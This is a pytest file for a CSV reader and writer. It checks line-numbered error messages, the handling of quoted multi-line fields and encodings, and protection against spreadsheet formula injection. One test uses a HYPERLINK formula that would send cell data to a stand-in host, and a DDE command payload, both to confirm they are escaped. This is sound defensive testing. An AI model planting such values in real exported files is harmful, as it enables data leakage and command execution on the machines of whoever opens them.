"""No line of a csv file is lost or merged with another, and each error names the line."""

import csv
import logging
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ecmf.data.label_table import Label, read_labels, write_labels
from ecmf.errors import CorpusError
from ecmf.storage.csv_cells import is_number
from ecmf.storage.csv_rows import read_csv, read_written
from ecmf.storage.files import write_csv

Table = list[dict[str, str]]


def read(folder: Path, text: str, **kwargs: str) -> Table:
    path = folder / "clips.csv"
    path.write_text(text, newline="", **(kwargs or {"encoding": "utf-8"}))
    return read_csv(path, lambda header: [])


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (
            'id,text,label\na,fine,joy\nb,"I said no,anger\nc,I agree,joy\nd,yes",joy\ne,ok,joy\n',
            "a quote that opens on line 3 closes on line 5, and line 4 between them looks like",
        ),
        ('id,text,label\na,"I said no,joy\nb,I agree",joy\n', "line 2 closes on line 3"),
        ('text,label,id\n"No way,joy,a\nbye",joy,b\n', "line 2 closes on line 3"),
        ('id,label,text\na,joy,"I said no\nb,joy,I agree"\n', "line 2 closes on line 3"),
        ('name\n"a\nb"\n', "line 2 closes on line 3"),
        (
            'id,label,text\n\na,joy,fine\nb,joy,"I said no\nc,joy,ok\n',
            r"line 4: a quote that opens there is not closed",
        ),
        (
            'id,text\na,"no\n' + "".join(f"c{i},some words {i}\n" for i in range(10_000)),
            "line 2: a field is longer than 131,072 characters, as after a quote that is not",
        ),
        ('id,text\na,"No" he said\n', "line 2: not csv"),
        ("id;text;label\na;b;c\n", "its fields are separated by semicolons: save it with commas"),
        ("id\ttext\na\tb\n", "its fields are separated by tabs"),
        ("id,text\na,b\nc,d,e\n", r"line 3 \('c'\) has 3 fields, the header 2"),
        ("id,text\na,b\nc\n", r"line 3 \('c'\) has 1 fields, the header 2"),
        ("id,text\na,\0\n", "line 2 holds a NUL character"),
        ("", "is empty: start with the header"),
        ("id,id\na,b\n", "column 'id' appears twice"),
        ("id,,\na,b,\n", "several columns have no name"),
    ],
)
def test_a_fault_is_named_with_its_line(tmp_path: Path, text: str, error: str) -> None:
    with pytest.raises(CorpusError, match=error):
        read(tmp_path, text)


def test_a_text_with_line_breaks_is_one_field(tmp_path: Path) -> None:
    text = 'id,text,label\na,"Well, yes,\nno, or so, maybe\r\nlast",joy\nb,"",joy\n'
    assert [row["text"] for row in read(tmp_path, text)] == [
        "Well, yes,\nno, or so, maybe\r\nlast", ""
    ]  # fmt: skip


def test_a_file_that_is_no_utf8_is_refused(tmp_path: Path) -> None:
    for encoding in ("latin-1", "utf-16"):
        with pytest.raises(CorpusError, match="is not UTF-8"):
            read(tmp_path, "id\né\n", encoding=encoding)


def test_faults_of_one_kind_are_counted_and_shown_by_three_examples(tmp_path: Path) -> None:
    with pytest.raises(CorpusError) as error:
        read(tmp_path, "id,text\n" + "".join(f"c{i},a,b\n" for i in range(300)))
    lines = str(error.value).splitlines()
    assert lines[0].endswith("300 errors")
    assert len(lines) == 5 and lines[-1].strip() == "... and 297 more like these"


def test_empty_rows_of_a_spreadsheet_are_left_out_with_their_lines(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level(logging.WARNING):
        assert len(read(tmp_path, "id,text,\na,b,\n,,\nc,d,\n,,\n,\n")) == 2
    assert "3 rows of empty fields left out: lines 3, 5, 6" in caplog.text


CELLS = st.text(st.sampled_from("'=+-@\t\r\n\"a1,. \uff1d"), max_size=6)


@settings(deadline=None, max_examples=50)
@given(st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=4))
def test_what_is_written_is_read_back_and_begins_no_formula(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]]
) -> None:
    rows = [["a", *row[1:]] for row in rows]
    path = tmp_path_factory.mktemp("csv") / "table.csv"
    header = [f"column {number}" for number in range(3)]
    write_csv(path, [header, *rows])
    with path.open(newline="", encoding="utf-8") as file:
        written = [cell for row in csv.reader(file) for cell in row]
    begun = [cell for cell in written if cell.startswith(tuple("=+-@\t\r\uff1d"))]
    assert all(map(is_number, begun))
    found = [list(row.values()) for row in read_written(path)]
    assert found == rows


def test_a_formula_in_an_id_is_text_to_a_spreadsheet_and_numbers_stay_numbers(
    tmp_path: Path,
) -> None:
    name = '=HYPERLINK("http://example.org/?"&A1)'
    label = Label(name, "@sad", (0.5, 0.5), -0.5, "kept", "-1+cmd|' /c calc'!A0")
    write_labels([label], ("@sad", "joy"), tmp_path / "labels.csv")
    text = (tmp_path / "labels.csv").read_text()
    assert (
        "\n\"'=HYPERLINK(" in text and ",'@sad," in text and ",-0.5," in text and ",'-1+cmd" in text
    )
    assert read_labels(tmp_path / "labels.csv", [name], ("@sad", "joy")) == [label]
